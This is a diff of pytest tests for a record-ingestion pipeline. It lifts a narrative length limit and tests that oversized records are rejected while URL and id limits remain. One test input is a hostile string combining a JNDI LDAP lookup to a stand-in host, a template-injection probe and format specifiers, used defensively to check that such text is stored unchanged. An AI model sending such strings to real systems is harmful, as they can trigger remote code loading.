@@ -9,7 +9,7 @@ from typing import Any
 import pytest
 
 from pipeline.errors import ValidationFailed
-from pipeline.ingest.models import MAX_TEXT_CHARS, MODELS
+from pipeline.ingest.models import MAX_URL_CHARS, MODELS
 from pipeline.ingest.records import RawRecord
 from pipeline.ingest.report import Report
 from pipeline.ingest.sources import TOPIC_BY_SOURCE, Source
@@ -113,7 +113,6 @@ def test_a_value_over_the_size_limit_is_too_large_and_at_the_limit_is_parsed() -
         (body(id=" \t\n"), "empty_id", "id"),
         (body(id="x" * 257), "too_long", "id"),
         (body(description="   "), "empty_text", "description"),
-        (body(description="x" * (MAX_TEXT_CHARS + 1)), "too_long", "description"),
     ],
 )
 def test_schema_violations_name_the_field(record: dict[str, Any], reason: str, field: str) -> None:
@@ -248,11 +247,58 @@ def test_a_narrative_of_only_nul_is_empty_text() -> None:
         "זה טקסט בעברית \u202e reversed \u202c and zero\u200bwidth",
         "line one\nline two\r\n\ttabbed \x1b[31m red",
         "${jndi:ldap://example.com/a} {{7*7}} %s%n",
-        "x" * MAX_TEXT_CHARS,
+        "x" * 100_001,
     ],
 )
 def test_hostile_but_valid_text_is_kept_exactly(text: str) -> None:
     assert parse(body(description=text)).text == text
+
+
+def _filling(field: str, topic: str, **fields: Any) -> tuple[RawRecord, str]:
+    """A record of exactly MAX_RECORD_BYTES whose `field` narrative fills it (non-ASCII too)."""
+    record = {"id": "r1", "received_at": WHEN, **fields, field: ""}
+    room = MAX_RECORD_BYTES - len(encode(record))
+    unit = "A man said été — "  # 1, 2 and 3 UTF-8 bytes a character
+    text = (unit * (room // len(unit.encode()) + 1)).encode()[:room].decode("utf-8", "ignore")
+    text += "x" * (room - len(text.encode()))
+    record[field] = text
+    value = encode(record)
+    assert len(value) == MAX_RECORD_BYTES
+    return raw(value, topic=topic), text
+
+
+@pytest.mark.parametrize(
+    ("topic", "field", "fields"),
+    [
+        (PUBLIC, "description", {}),
+        (HOTLINE, "summary", {}),
+        (RADICAL, "concern", {}),
+        (ONLINE, "description", {"url": "https://example.com/x"}),
+    ],
+)
+def test_a_narrative_has_no_limit_but_the_records_size(
+    topic: str, field: str, fields: dict[str, Any]
+) -> None:
+    # Issue 16: a pasted article over 100,000 characters was dead-lettered as too_long. Any
+    # narrative that fits in a record is accepted and kept whole; one byte more is too_large.
+    record, text = _filling(field, topic, **fields)
+    assert len(text) > 300_000
+    report = parse_record(record)
+    assert report.text.startswith(text)
+    assert len(report.text) >= len(text)
+    bigger = RawRecord(
+        topic=topic, partition=2, offset=41, key=b"r1", value=record.value + b" ", timestamp_ms=7
+    )
+    assert reason_of(bigger).reason == "too_large"
+
+
+def test_url_and_id_keep_their_limits() -> None:
+    long_url = {"url": "https://example.com/" + "a" * MAX_URL_CHARS}
+    error = reason_of(raw(encode(body(**long_url)), topic=ONLINE))
+    assert error.reason == "too_long"
+    assert {"field": "url", "reason": "too_long"} in [
+        {"field": d["field"], "reason": d["reason"]} for d in error.details
+    ]
 
 
 def test_unknown_fields_are_kept_in_extra_at_any_depth() -> None:
